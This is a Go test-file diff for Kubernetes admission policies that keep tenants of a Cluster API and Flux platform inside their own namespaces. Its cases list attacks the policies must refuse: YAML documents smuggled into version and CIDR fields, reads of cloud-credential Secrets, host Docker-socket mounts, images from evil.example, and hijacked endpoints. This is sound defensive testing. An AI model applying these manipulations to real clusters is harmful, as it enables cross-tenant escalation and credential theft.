@@ -66,8 +66,11 @@ type tenantTestbed struct {
 	params   map[string]*unstructured.Unstructured
 	// installed is what the workload-clusters unit installs in the management cluster.
 	installed []*unstructured.Unstructured
-	// definitions are wl1's cluster definitions, as its definitions' release renders them.
+	// definitions are wl1's cluster definitions, as its definitions' release renders them; built
+	// is everything the builder writes for wl1 (its units, their release, the unit graph, the
+	// definitions), each as its controller writes it.
 	definitions []*unstructured.Unstructured
+	built       []*unstructured.Unstructured
 	// mgmt is the management cluster rendered, r its renderer: for more of the tenants' clusters.
 	mgmt *render.Result
 	r    *render.Renderer
@@ -121,12 +124,14 @@ func renderTenantTestbedOf(t *testing.T, env string, tenants map[string]any, wl1
 	if err != nil {
 		t.Fatal(err)
 	}
-	for _, o := range res.Objects {
+	for _, o := range builtInTheManagementCluster(res) {
+		obj := asApplied(o, "wl1", "workload-clusters")
+		tb.built = append(tb.built, obj)
 		if k := o.Object.GetKind(); k == "Kustomization" && o.Unit == "" || k == "HelmRelease" && o.Unit != "" {
-			tb.units = append(tb.units, o.Object)
+			tb.units = append(tb.units, obj)
 		}
 		if o.Release != nil && o.Release.Name == "wl1-cluster" {
-			tb.definitions = append(tb.definitions, o.Object)
+			tb.definitions = append(tb.definitions, obj)
 		}
 	}
 	return tb
@@ -178,6 +183,16 @@ func (tb *tenantTestbed) start(t *testing.T) *tenantTestbed {
 func (tb *tenantTestbed) objects(t *testing.T, tc admissionCase) []*unstructured.Unstructured {
 	t.Helper()
 	objs := []*unstructured.Unstructured{tb.release}
+	release := tc.object == nil && tc.definition == "" && tc.unit == "" && !tc.built
+	if tc.built {
+		objs = tb.built
+	}
+	if tc.defaulted {
+		objs = nil
+		for _, o := range tb.built {
+			objs = append(objs, withProviderDefaults(o))
+		}
+	}
 	if tc.object != nil {
 		objs = []*unstructured.Unstructured{tc.object()}
 	}
@@ -211,6 +226,12 @@ func (tb *tenantTestbed) objects(t *testing.T, tc admissionCase) []*unstructured
 		}
 		if tc.ns != "" {
 			obj.SetNamespace(tc.ns)
+			if release {
+				// As the Kustomization of that tenant applies it: in its shard.
+				labels := obj.GetLabels()
+				labels[shardLabel] = tc.ns
+				obj.SetLabels(labels)
+			}
 		}
 		if tc.edit != nil {
 			tc.edit(obj.Object)
@@ -223,9 +244,33 @@ func (tb *tenantTestbed) objects(t *testing.T, tc admissionCase) []*unstructured
 // offline is what this package's evaluation of the policies (validate's) answers for obj.
 func (tb *tenantTestbed) offline(t *testing.T, pols map[string]*workloads.Policy, user string, obj *unstructured.Unstructured) []string {
 	t.Helper()
+	return tb.offlineOp(t, pols, "", user, obj)
+}
+
+// offlineOp is offline for an operation of a case (create, update or delete) on obj: an update or
+// deletion of the object the test bed installed of its kind and name.
+func (tb *tenantTestbed) offlineOp(t *testing.T, pols map[string]*workloads.Policy, op, user string, obj *unstructured.Unstructured) []string {
+	t.Helper()
+	operation, newObj := strings.ToUpper(op), obj
+	var old *unstructured.Unstructured
+	if op == "" {
+		operation = "CREATE"
+	} else {
+		for _, o := range tb.installed {
+			if o.GetKind() == obj.GetKind() && o.GetNamespace() == obj.GetNamespace() && o.GetName() == obj.GetName() {
+				old = o
+			}
+		}
+		if old == nil {
+			t.Fatalf("%s of %s %s/%s: the test bed installs none", op, obj.GetKind(), obj.GetNamespace(), obj.GetName())
+		}
+		if op == "delete" {
+			newObj = nil
+		}
+	}
 	var refused []string
 	for _, name := range []string{"cluster-init-tenant-releases", "cluster-init-tenant-builds"} {
-		msgs, err := pols[name].Admit(obj, obj.GetNamespace(), user, tb.params[obj.GetNamespace()])
+		msgs, err := pols[name].AdmitRequest(operation, newObj, old, obj.GetNamespace(), user, tb.params[obj.GetNamespace()])
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -310,7 +355,10 @@ type admissionCase struct {
 	// the kind named by definition).
 	unit       string
 	definition string
-	edit       func(o map[string]any)
+	// built: everything the builder writes for wl1, as the charts render it; defaulted: as the
+	// providers' defaulting webhooks then make it, before the policies see it.
+	built, defaulted bool
+	edit             func(o map[string]any)
 	// refused is a part of the API server's answer; empty: admitted.
 	refused string
 }
@@ -342,7 +390,72 @@ func all(edits ...func(o map[string]any)) func(o map[string]any) {
 // what the platform builds from it is held to its namespace; each case is an attack that must
 // fail (or a valid cluster that must pass), with the field named in the answer.
 func TestTheAPIServerHoldsATenantToItsClusters(t *testing.T) {
-	startTenantTestbed(t).admit(t, admissionCases())
+	tb := startTenantTestbed(t)
+	tb.admit(t, tb.casesWith(admissionCases()))
+	tb.keepsTheShardOnUpdate(t)
+	tb.keepsWhatItsControllerSet(t)
+	tb.refusesEveryOtherField(t)
+}
+
+// keepsWhatItsControllerSet: an update of the builder's Cluster keeps the endpoint Cluster API
+// set, and may not change it.
+func (tb *tenantTestbed) keepsWhatItsControllerSet(t *testing.T) {
+	t.Helper()
+	var cluster *unstructured.Unstructured
+	for _, d := range tb.definitions {
+		if d.GetKind() == "Cluster" {
+			cluster = d.DeepCopy()
+		}
+	}
+	_ = unstructured.SetNestedMap(cluster.Object, map[string]any{"host": "172.18.0.9", "port": int64(6443)}, "spec", "controlPlaneEndpoint")
+	if err := tb.c.Client.Create(t.Context(), cluster.DeepCopy()); err != nil {
+		t.Fatal(err)
+	}
+	if err := tb.do(t, "update", builderA, cluster.DeepCopy()); err != nil {
+		t.Errorf("Cluster %s updated with the endpoint Cluster API set: %v", cluster.GetName(), err)
+	}
+	_ = unstructured.SetNestedField(cluster.Object, "172.18.0.2", "spec", "controlPlaneEndpoint", "host")
+	if err := tb.do(t, "update", builderA, cluster); err == nil || !strings.Contains(err.Error(), "spec.controlPlaneEndpoint: not a field") {
+		t.Errorf("Cluster %s updated with an endpoint of the build's: %v", cluster.GetName(), err)
+	}
+}
+
+// casesWith are cases and two more: what the builder writes for wl1 as the charts render it is
+// admitted, and so it is once the providers' webhooks defaulted it.
+func (tb *tenantTestbed) casesWith(cases []admissionCase) []admissionCase {
+	return append(cases, admissionCase{name: "everything the builder writes for wl1, as the charts render it", user: builderA, built: true},
+		admissionCase{name: "everything the builder writes for wl1, as the providers' webhooks default it", user: builderA, built: true, defaulted: true})
+}
+
+// keepsTheShardOnUpdate: a tenant's release, or a unit of its builder's, may not leave its
+// shard by an update either.
+func (tb *tenantTestbed) keepsTheShardOnUpdate(t *testing.T) {
+	t.Helper()
+	var unit *unstructured.Unstructured
+	for _, u := range tb.units {
+		if u.GetName() == "wl1-cluster-ready" {
+			unit = u.DeepCopy()
+		}
+	}
+	for _, c := range []struct {
+		user string
+		obj  *unstructured.Unstructured
+	}{{tenantA, tb.release.DeepCopy()}, {builderA, unit}} {
+		c.obj.SetNamespace("workload-clusters")
+		if err := tb.c.Client.Create(t.Context(), c.obj.DeepCopy()); err != nil {
+			t.Fatal(err)
+		}
+		if err := tb.do(t, "update", c.user, c.obj.DeepCopy()); err != nil {
+			t.Errorf("%s %s updated as it is: %v", c.obj.GetKind(), c.obj.GetName(), err)
+		}
+		unlabelled := c.obj.DeepCopy()
+		labels := unlabelled.GetLabels()
+		delete(labels, shardLabel)
+		unlabelled.SetLabels(labels)
+		if err := tb.do(t, "update", c.user, unlabelled); err == nil || !strings.Contains(err.Error(), "sharding.fluxcd.io/key: expected workload-clusters") {
+			t.Errorf("%s %s updated out of its shard: %v", c.obj.GetKind(), c.obj.GetName(), err)
+		}
+	}
 }
 
 // admit runs each case against the API server: refused naming what it names, or admitted; and
@@ -379,9 +492,11 @@ func TestEveryRuleOfTheTenantPoliciesStopsAnAttack(t *testing.T) {
 		tb    *tenantTestbed
 		pols  map[string]*workloads.Policy
 		cases []admissionCase
-	}{{tb: renderTenantTestbed(t), cases: admissionCases()}, {tb: renderCAPOTenantTestbed(t), cases: capoAdmissionCases()}}
+	}{{tb: renderTenantTestbed(t), cases: admissionCases()}, {tb: renderCAPOTenantTestbed(t), cases: capoAdmissionCases()},
+		{tb: renderRKE2TenantTestbed(t)}, {tb: renderSimulatedTenantTestbed(t)}}
 	for i := range beds {
 		beds[i].pols = beds[i].tb.compiled(t)
+		beds[i].cases = append(beds[i].tb.casesWith(beds[i].cases), strayFieldCases(beds[i].tb.built, builderA)...)
 	}
 	for name, p := range beds[0].pols {
 		for i := range p.Validations() {
@@ -397,7 +512,7 @@ func TestEveryRuleOfTheTenantPoliciesStopsAnAttack(t *testing.T) {
 						continue
 					}
 					for _, obj := range bed.tb.objects(t, tc) {
-						if tc.op == "" && len(bed.tb.offline(t, broken, tc.user, obj)) == 0 {
+						if len(bed.tb.offlineOp(t, broken, tc.op, tc.user, obj)) == 0 {
 							through = append(through, tc.name)
 						}
 					}
@@ -426,11 +541,19 @@ func obj(apiVersion, kind, name string, extra map[string]any) func() *unstructur
 	}
 }
 
+// clusterOf is a Cluster of the default tenant's namespace as its chart makes one: its own
+// control plane and Docker infrastructure.
+func clusterOf(name string) func() *unstructured.Unstructured {
+	return obj("cluster.x-k8s.io/v1beta2", "Cluster", name, map[string]any{"spec": map[string]any{
+		"controlPlaneRef":   map[string]any{"apiGroup": "controlplane.cluster.x-k8s.io", "kind": "KubeadmControlPlane", "name": name + "-control-plane"},
+		"infrastructureRef": map[string]any{"apiGroup": "infrastructure.cluster.x-k8s.io", "kind": "DockerCluster", "name": name}}})
+}
+
 func admissionCases() []admissionCase {
 	ok := ""
 	tb0 := paramsEdits{}
 	wl1Machines := map[string]any{"matchLabels": map[string]any{"cluster.x-k8s.io/cluster-name": "wl1"}}
-	return []admissionCase{
+	return append([]admissionCase{
 		{name: "a valid workload cluster", user: tenantA, refused: ok},
 		{name: "workers at the tenant's limit", user: tenantA, edit: set("spec.values.cluster.workers.replicas", int64(5)), refused: ok},
 		{name: "providers and version named as the platform runs them", user: tenantA, edit: all(set("spec.values.cluster.providers.infrastructure", "capd"), set("spec.values.cluster.kubernetes_version", "v1.37.0")), refused: ok},
@@ -499,14 +622,14 @@ func admissionCases() []admissionCase {
 		{name: "a release with post-renderers", user: builderA, unit: "HelmRelease/wl1-cluster", edit: set("spec.postRenderers", []any{map[string]any{}}), refused: "postRenderers"},
 		{name: "a release applied as the controller", user: builderA, unit: "HelmRelease/wl1-cluster", edit: del("spec.serviceAccountName"), refused: "runs as cluster-builder"},
 		// The platform's Secrets of the namespace (a cloud's credentials) are no unit's to read.
-		{name: "a unit substituting a Secret into the tenant's cluster", user: builderA, unit: "wl1-cni", edit: set("spec.postBuild.substituteFrom", []any{map[string]any{"kind": "Secret", "name": names.TenantCloudCredentialsSecret}}), refused: "reads no Secret"},
-		{name: "a unit decrypting with a Secret of the namespace", user: builderA, unit: "wl1-cluster-ready", edit: set("spec.decryption", map[string]any{"provider": "sops", "secretRef": map[string]any{"name": names.TenantCloudCredentialsSecret}}), refused: "reads no Secret"},
+		{name: "a unit substituting a Secret into the tenant's cluster", user: builderA, unit: "wl1-cni", edit: set("spec.postBuild.substituteFrom", []any{map[string]any{"kind": "Secret", "name": names.TenantCloudCredentialsSecret}}), refused: "spec.postBuild.substituteFrom: not a field"},
+		{name: "a unit decrypting with a Secret of the namespace", user: builderA, unit: "wl1-cluster-ready", edit: set("spec.decryption", map[string]any{"provider": "sops", "secretRef": map[string]any{"name": names.TenantCloudCredentialsSecret}}), refused: "spec.decryption: not a field"},
 		{name: "wl1's machine deployment as its chart renders it", user: builderA, definition: "MachineDeployment", refused: ok},
 		{name: "wl1's control plane as its chart renders it", user: builderA, definition: "KubeadmControlPlane", refused: ok},
 		{name: "wl1's workers' bootstrap template as its chart renders it", user: builderA, definition: "KubeadmConfigTemplate", refused: ok},
-		{name: "workers whose bootstrap data is a Secret of the namespace", user: builderA, definition: "MachineDeployment", edit: set("spec.template.spec.bootstrap.dataSecretName", names.TenantCloudCredentialsSecret), refused: "bootstrap data and infrastructure"},
+		{name: "workers whose bootstrap data is a Secret of the namespace", user: builderA, definition: "MachineDeployment", edit: set("spec.template.spec.bootstrap.dataSecretName", names.TenantCloudCredentialsSecret), refused: "spec.template.spec.bootstrap.dataSecretName: not a field"},
 		{name: "an RKE2 control plane of another namespace's machine template", user: builderA, object: obj("controlplane.cluster.x-k8s.io/v1beta1", "RKE2ControlPlane", "wl1-control-plane", map[string]any{"spec": map[string]any{
-			"rolloutStrategy": map[string]any{"type": "RollingUpdate"}, "machineTemplate": map[string]any{"infrastructureRef": map[string]any{"apiVersion": "infrastructure.cluster.x-k8s.io/v1beta2", "kind": "DockerMachineTemplate", "name": "management-control-plane", "namespace": "cluster-init"}}}}), refused: "bootstrap data and infrastructure"},
+			"rolloutStrategy": map[string]any{"type": "RollingUpdate"}, "machineTemplate": map[string]any{"infrastructureRef": map[string]any{"apiVersion": "infrastructure.cluster.x-k8s.io/v1beta2", "kind": "DockerMachineTemplate", "name": "management-control-plane", "namespace": "cluster-init"}}}}), refused: "spec.machineTemplate.infrastructureRef.namespace"},
 		{name: "an RKE2 control plane of its own namespace's machine template", user: builderA, object: obj("controlplane.cluster.x-k8s.io/v1beta1", "RKE2ControlPlane", "wl1-control-plane", map[string]any{"spec": map[string]any{
 			"rolloutStrategy": map[string]any{"type": "RollingUpdate"}, "machineTemplate": map[string]any{"infrastructureRef": map[string]any{"apiVersion": "infrastructure.cluster.x-k8s.io/v1beta2", "kind": "DockerMachineTemplate", "name": "wl1-control-plane", "namespace": "workload-clusters"}}}}), refused: ok},
 		{name: "a release with values from another release's credentials", user: builderA, unit: "HelmRelease/wl1-cluster", edit: set("spec.valuesFrom", []any{map[string]any{"kind": "Secret", "name": "wl2-credentials", "valuesKey": "values.yaml"}}), refused: "reads no Secret"},
@@ -514,12 +637,12 @@ func admissionCases() []admissionCase {
 		{name: "a Secret named as the platform's, posing as Helm's record", user: builderA, object: obj("v1", "Secret", names.TenantCloudCredentialsSecret, map[string]any{"type": "helm.sh/release.v1"}), refused: "sh.helm.release.v1"},
 		{name: "an RKE2 control plane reading another namespace's Secret", user: builderA, object: obj("controlplane.cluster.x-k8s.io/v1beta1", "RKE2ControlPlane", "wl1-control-plane", map[string]any{"spec": map[string]any{
 			"rolloutStrategy": map[string]any{"type": "RollingUpdate"}, "machineTemplate": map[string]any{"infrastructureRef": map[string]any{"apiVersion": "infrastructure.cluster.x-k8s.io/v1beta2", "kind": "DockerMachineTemplate", "name": "wl1-control-plane"}},
-			"serverConfig": map[string]any{"auditPolicySecret": map[string]any{"name": "tenant-team-b-git", "namespace": "cluster-init"}}}}), refused: "no Secret or ConfigMap read into the machines"},
+			"serverConfig": map[string]any{"auditPolicySecret": map[string]any{"name": "tenant-team-b-git", "namespace": "cluster-init"}}}}), refused: "spec.serverConfig.auditPolicySecret: not a field"},
 		{name: "RKE2 workers with a registry's credentials of another namespace", user: builderA, object: obj("bootstrap.cluster.x-k8s.io/v1beta1", "RKE2ConfigTemplate", "wl1-workers", map[string]any{"spec": map[string]any{"template": map[string]any{"spec": map[string]any{
-			"privateRegistriesConfig": map[string]any{"configs": map[string]any{"registry.example": map[string]any{"authSecret": map[string]any{"name": "tenant-team-b-git", "namespace": "cluster-init"}}}}}}}}), refused: "no Secret or ConfigMap read into the machines"},
+			"privateRegistriesConfig": map[string]any{"configs": map[string]any{"registry.example": map[string]any{"authSecret": map[string]any{"name": "tenant-team-b-git", "namespace": "cluster-init"}}}}}}}}), refused: "spec.template.spec.privateRegistriesConfig.configs: not a field"},
 		{name: "RKE2 workers with a file from a Secret", user: builderA, object: obj("bootstrap.cluster.x-k8s.io/v1beta1", "RKE2ConfigTemplate", "wl1-workers", map[string]any{"spec": map[string]any{"template": map[string]any{"spec": map[string]any{
-			"files": []any{map[string]any{"path": "/etc/x", "contentFrom": map[string]any{"secret": map[string]any{"name": names.TenantCloudCredentialsSecret, "key": "clouds.yaml"}}}}}}}}), refused: "written out in full"},
-		{name: "a release with values from the cloud's credentials", user: builderA, unit: "HelmRelease/wl1-cluster", edit: set("spec.valuesFrom", []any{map[string]any{"kind": "Secret", "name": names.TenantCloudCredentialsSecret, "valuesKey": "clouds.yaml", "targetPath": "cluster.network.service_domain"}}), refused: "reads no Secret"},
+			"files": []any{map[string]any{"path": "/etc/x", "contentFrom": map[string]any{"secret": map[string]any{"name": names.TenantCloudCredentialsSecret, "key": "clouds.yaml"}}}}}}}}), refused: "spec.template.spec.files[].contentFrom: not a field"},
+		{name: "a release with values from the cloud's credentials", user: builderA, unit: "HelmRelease/wl1-cluster", edit: set("spec.valuesFrom", []any{map[string]any{"kind": "Secret", "name": names.TenantCloudCredentialsSecret, "valuesKey": "clouds.yaml"}}), refused: "reads no Secret"},
 		{name: "Helm's record of a release", user: builderA, object: obj("v1", "Secret", "sh.helm.release.v1.wl1.v1", map[string]any{"type": "helm.sh/release.v1"}), refused: ok},
 		{name: "a release's unit graph", user: builderA, object: obj("v1", "ConfigMap", "wl1-units", nil), refused: ok},
 		{name: "an object posing as the platform's", user: builderA, object: obj("v1", "ConfigMap", "wl1-units", map[string]any{"metadata": map[string]any{"labels": map[string]any{"cluster-init.dev/platform": "true"}}}), refused: "is the platform's"},
@@ -528,29 +651,106 @@ func admissionCases() []admissionCase {
 		{name: "the tenant's parameters deleted", user: builderA, op: "delete", object: obj("v1", "ConfigMap", "cluster-init-tenant", nil), refused: "is the platform's"},
 		{name: "the shared values rewritten", user: builderA, op: "update", object: tb0.param("workload-clusters", "", ""), refused: "is the platform's"},
 		{name: "the tenant's Kustomization deleted (and its clusters pruned)", user: builderA, op: "delete", object: obj("kustomize.toolkit.fluxcd.io/v1", "Kustomization", "workload-clusters", nil), refused: "is the platform's"},
-		{name: "a Cluster named like the management cluster", user: builderA, object: obj("cluster.x-k8s.io/v1beta2", "Cluster", "wl-management", map[string]any{"spec": map[string]any{"paused": true}}), refused: "not a name of the tenant's"},
-		{name: "a Cluster with another tenant's name", user: builderA, object: obj("cluster.x-k8s.io/v1beta2", "Cluster", "b-one", map[string]any{"spec": map[string]any{"paused": true}}), refused: "not a name of the tenant's"},
+		{name: "a Cluster named like the management cluster", user: builderA, object: clusterOf("wl-management"), refused: "not a name of the tenant's"},
+		{name: "a Cluster with another tenant's name", user: builderA, object: clusterOf("b-one"), refused: "not a name of the tenant's"},
 		{name: "a DockerCluster taking over the management cluster's load balancer", user: builderA, object: obj("infrastructure.cluster.x-k8s.io/v1beta2", "DockerCluster", "wl-management", map[string]any{"spec": map[string]any{}}), refused: "not a name of the tenant's"},
 		// A tenant simulated in memory: CAPD's Dev kinds, in memory only, of its names only.
 		{name: "a cluster in memory", user: tenantSim, ns: "team-sim", edit: all(rename("sim-one"), del("spec.values.cluster.providers")), refused: ok},
 		{name: "Docker machines for a tenant in memory", user: tenantSim, ns: "team-sim", edit: all(rename("sim-one"), set("spec.values.cluster.providers.infrastructure", "capd")), refused: "spec.values.cluster.providers"},
 		{name: "its simulated cluster", user: builderSim, ns: "team-sim", object: obj("infrastructure.cluster.x-k8s.io/v1beta2", "DevCluster", "sim-one", map[string]any{"spec": map[string]any{"backend": map[string]any{"inMemory": map[string]any{}}}}), refused: ok},
-		{name: "a DevCluster of Docker containers", user: builderSim, ns: "team-sim", object: obj("infrastructure.cluster.x-k8s.io/v1beta2", "DevCluster", "sim-one", map[string]any{"spec": map[string]any{"backend": map[string]any{"docker": map[string]any{}}}}), refused: "simulated in memory"},
-		{name: "a DevCluster simulated and of Docker containers at once", user: builderSim, ns: "team-sim", object: obj("infrastructure.cluster.x-k8s.io/v1beta2", "DevCluster", "sim-one", map[string]any{"spec": map[string]any{"backend": map[string]any{"inMemory": map[string]any{}, "docker": map[string]any{}}}}), refused: "simulated in memory"},
+		{name: "a DevCluster of Docker containers", user: builderSim, ns: "team-sim", object: obj("infrastructure.cluster.x-k8s.io/v1beta2", "DevCluster", "sim-one", map[string]any{"spec": map[string]any{"backend": map[string]any{"docker": map[string]any{}}}}), refused: "spec.backend.docker: not a field"},
+		{name: "a DevCluster simulated and of Docker containers at once", user: builderSim, ns: "team-sim", object: obj("infrastructure.cluster.x-k8s.io/v1beta2", "DevCluster", "sim-one", map[string]any{"spec": map[string]any{"backend": map[string]any{"inMemory": map[string]any{}, "docker": map[string]any{}}}}), refused: "spec.backend.docker: not a field"},
 		{name: "the default tenant's names, from the simulated tenant", user: tenantSim, ns: "team-sim", edit: all(rename("wl9"), del("spec.values.cluster.providers")), refused: "are named sim-"},
 		{name: "a thousand simulated workers", user: tenantSim, ns: "team-sim", edit: all(rename("sim-one"), del("spec.values.cluster.providers"), set("spec.values.cluster.workers.replicas", int64(1000))), refused: "spec.values.cluster.workers"},
 		{name: "a document injected through a simulated cluster's version", user: tenantSim, ns: "team-sim", edit: all(rename("sim-one"), del("spec.values.cluster.providers"), set("spec.values.cluster.kubernetes_version", "v1.37.0\n---\nkind: ClusterRoleBinding")), refused: "kubernetes_version"},
 		{name: "a backend key of its own in a simulated cluster's values", user: tenantSim, ns: "team-sim", edit: all(rename("sim-one"), del("spec.values.cluster.providers"), set("spec.values.cluster.backend", map[string]any{"docker": map[string]any{}})), refused: "spec.values.cluster"},
 		{name: "Dev machines of Docker containers with the host's socket", user: builderSim, ns: "team-sim", object: obj("infrastructure.cluster.x-k8s.io/v1beta2", "DevMachineTemplate", "sim-one-x", map[string]any{"spec": map[string]any{"template": map[string]any{"spec": map[string]any{"backend": map[string]any{
-			"docker": map[string]any{"extraMounts": []any{map[string]any{"containerPath": "/var/run/docker.sock", "hostPath": "/var/run/docker.sock"}}}}}}}}), refused: "simulated in memory"},
+			"docker": map[string]any{"extraMounts": []any{map[string]any{"containerPath": "/var/run/docker.sock", "hostPath": "/var/run/docker.sock"}}}}}}}}), refused: "spec.template.spec.backend.docker: not a field"},
 		{name: "a DevCluster taking over the management cluster's load balancer", user: builderSim, ns: "team-sim", object: obj("infrastructure.cluster.x-k8s.io/v1beta2", "DevCluster", "wl-management", map[string]any{"spec": map[string]any{"backend": map[string]any{"inMemory": map[string]any{}}}}), refused: "not a name of the tenant's"},
 		{name: "its cluster's health check", user: builderA, object: obj("cluster.x-k8s.io/v1beta2", "MachineHealthCheck", "wl1-workers", map[string]any{"spec": map[string]any{"clusterName": "wl1", "selector": wl1Machines}}), refused: ok},
 		{name: "a health check whose remediation creates an object of any kind as Cluster API", user: builderA, object: obj("cluster.x-k8s.io/v1beta2", "MachineHealthCheck", "wl1-workers", map[string]any{"spec": map[string]any{"clusterName": "wl1", "selector": wl1Machines,
-			"remediation": map[string]any{"templateRef": map[string]any{"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "name": "x"}}}}), refused: "no external remediation"},
+			"remediation": map[string]any{"templateRef": map[string]any{"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "name": "x"}}}}), refused: "spec.remediation.templateRef: not a field"},
 		{name: "the same remediation in Cluster API's v1beta1 form", user: builderA, object: obj("cluster.x-k8s.io/v1beta1", "MachineHealthCheck", "wl1-workers", map[string]any{"spec": map[string]any{"clusterName": "wl1", "selector": wl1Machines,
-			"remediationTemplate": map[string]any{"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "name": "x"}}}), refused: "no external remediation"},
+			"remediationTemplate": map[string]any{"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "name": "x"}}}), refused: "spec.remediationTemplate: not a field"},
 		{name: "machines with the host's Docker socket", user: builderA, object: obj("infrastructure.cluster.x-k8s.io/v1beta2", "DockerMachineTemplate", "wl1-x", map[string]any{"spec": map[string]any{"template": map[string]any{"spec": map[string]any{
-			"extraMounts": []any{map[string]any{"containerPath": "/var/run/docker.sock", "hostPath": "/var/run/docker.sock"}}}}}}), refused: "mount nothing of the host"},
+			"extraMounts": []any{map[string]any{"containerPath": "/var/run/docker.sock", "hostPath": "/var/run/docker.sock"}}}}}}), refused: "spec.template.spec.extraMounts: not a field"},
+	}, fieldAndLabelCases()...)
+}
+
+// fieldAndLabelCases are attacks through a field the charts do not set, or a value of one they
+// do, and through the labels and annotations the platform's controllers select on or trust.
+func fieldAndLabelCases() []admissionCase {
+	ok := ""
+	label := func(key, value string) func(o map[string]any) {
+		return func(o map[string]any) { _ = unstructured.SetNestedField(o, value, "metadata", "labels", key) }
+	}
+	annotation := func(key, value string) func(o map[string]any) {
+		return func(o map[string]any) { _ = unstructured.SetNestedField(o, value, "metadata", "annotations", key) }
+	}
+	shardOf := func(o map[string]any) { unstructured.RemoveNestedField(o, "metadata", "labels", shardLabel) }
+	placed := func(o map[string]any) {
+		_ = unstructured.SetNestedField(o, "cluster-init.some-app", "metadata", "labels", "apps.cluster-init.dev/application")
+	}
+	return []admissionCase{
+		// What the hostile tenant did: a unit that builds a component of a tenant's directory.
+		{name: "a unit with a component of a tenant's directory", user: builderA, unit: "wl1-cluster-ready", edit: set("spec.components", []any{"../../clusters/management/workload-clusters"}), refused: "spec.components: not a field a workload cluster's unit sets"},
+		{name: "a unit applied into the cluster with a component of a tenant's directory", user: builderA, unit: "wl1-cni", edit: set("spec.components", []any{"../../../clusters/management/team-b"}), refused: "spec.components: not a field"},
+		{name: "a unit with images of its own", user: builderA, unit: "wl1-cni", edit: set("spec.images", []any{map[string]any{"name": "flannel", "newName": "evil.example/flannel"}}), refused: "spec.images: not a field"},
+		{name: "a unit naming what it applies like the platform's", user: builderA, unit: "wl1-cluster-ready", edit: set("spec.namePrefix", "cluster-init-"), refused: "spec.namePrefix: not a field"},
+		{name: "a unit labelling what it applies as the platform's", user: builderA, unit: "Kustomization/wl1-cluster", edit: set("spec.commonMetadata", map[string]any{"labels": map[string]any{"cluster-init.dev/platform": "true"}}), refused: "spec.commonMetadata: not a field"},
+		{name: "a unit moving what it applies to another shard", user: builderA, unit: "Kustomization/wl1-cluster", edit: set("spec.commonMetadata", map[string]any{"labels": map[string]any{shardLabel: "team-b"}}), refused: "spec.commonMetadata: not a field"},
+		{name: "a forced unit", user: builderA, unit: "wl1-cluster-ready", edit: set("spec.force", true), refused: "never forced"},
+		{name: "a unit whose deletion deletes the cluster's objects", user: builderA, unit: "wl1-cni", edit: set("spec.deletionPolicy", "Delete"), refused: "spec.deletionPolicy"},
+		{name: "a unit patching another object than its release", user: builderA, unit: "Kustomization/wl1-cluster", edit: set("spec.patches", []any{map[string]any{"patch": "[]", "target": map[string]any{"kind": "Secret"}}}), refused: "spec.patches"},
+		{name: "a unit substituting more than a CIDR", user: builderA, unit: "wl1-cni", edit: set("spec.postBuild.substitute.POD_CIDR", "10.48.0.0/16\n---\nkind: ClusterRoleBinding"), refused: "POD_CIDR"},
+		{name: "a unit substituting a variable of its own", user: builderA, unit: "wl1-cni", edit: set("spec.postBuild.substitute.IMAGE", "evil.example/x"), refused: "spec.postBuild.substitute.IMAGE: not a field"},
+		{name: "a health check of the platform's namespace", user: builderA, unit: "wl1-cluster-ready", edit: set("spec.healthChecks", []any{map[string]any{"apiVersion": "cluster.x-k8s.io/v1beta2", "kind": "Cluster", "name": "management", "namespace": "cluster-init"}}), refused: "checks the health"},
+		{name: "a kubeconfig unit reading another key of the Secret", user: builderA, unit: "wl1-cni", edit: set("spec.kubeConfig.secretRef.key", "admin"), refused: "through its <cluster>-kubeconfig Secret"},
+		{name: "a release of another version of the chart", user: builderA, unit: "HelmRelease/wl1-cluster", edit: set("spec.chart.spec.version", "0.0.1"), refused: "version *"},
+		{name: "a release with a value of a Secret put where it chooses", user: builderA, unit: "HelmRelease/wl1-cluster", edit: set("spec.valuesFrom", []any{map[string]any{"kind": "Secret", "name": "wl1-credentials", "valuesKey": "values.yaml", "targetPath": "cluster.name"}}), refused: "spec.valuesFrom[].targetPath: not a field"},
+		{name: "a release with the platform's units in its values", user: builderA, unit: "HelmRelease/wl1-cluster", edit: set("spec.values.units", map[string]any{"capi": map[string]any{"enabled": true}}), refused: "spec.values.units: not a field"},
+		{name: "a release with drift detection off", user: builderA, unit: "HelmRelease/wl1-cluster", edit: set("spec.driftDetection.mode", "disabled"), refused: "spec.driftDetection: not a field"},
+		{name: "a release that keeps its history on uninstall", user: builderA, unit: "HelmRelease/wl1-cluster", edit: set("spec.uninstall.keepHistory", true), refused: "spec.uninstall: not a field"},
+		{name: "a release from a chart of an OCI source", user: builderA, unit: "HelmRelease/wl1-cluster", edit: all(del("spec.chart"), set("spec.chartRef", map[string]any{"kind": "OCIRepository", "name": "evil"})), refused: "spec.chartRef: not a field"},
+		{name: "a ConfigMap of its own", user: builderA, object: obj("v1", "ConfigMap", "wl1-settings", map[string]any{"data": map[string]any{"context": "workload"}}), refused: "no ConfigMap but its release's unit graph"},
+		{name: "a unit graph of the management cluster's", user: builderA, object: obj("v1", "ConfigMap", "wl1-units", map[string]any{"data": map[string]any{"context": "management"}}), refused: "no ConfigMap but"},
+		{name: "a Cluster on another cluster's infrastructure", user: builderA, definition: "Cluster", edit: set("spec.infrastructureRef.name", "wl2"), refused: "spec.infrastructureRef"},
+		{name: "a Cluster with an endpoint of its choosing", user: builderA, definition: "Cluster", edit: set("spec.controlPlaneEndpoint", map[string]any{"host": "10.0.0.1", "port": int64(6443)}), refused: "spec.controlPlaneEndpoint: not a field"},
+		{name: "a DockerCluster with the management cluster's endpoint", user: builderA, definition: "DockerCluster", edit: set("spec.controlPlaneEndpoint", map[string]any{"host": "172.18.0.3", "port": int64(6443)}), refused: "spec.controlPlaneEndpoint: set by CAPD"},
+		{name: "a DockerCluster as CAPD's defaulting makes it", user: builderA, definition: "DockerCluster", edit: set("spec.controlPlaneEndpoint", map[string]any{"port": int64(6443)}), refused: ok},
+		{name: "Docker machines of an image of its own", user: builderA, definition: "DockerMachineTemplate", edit: set("spec.template.spec.customImage", "evil.example/node:v1.37.0"), refused: "spec.template.spec.customImage"},
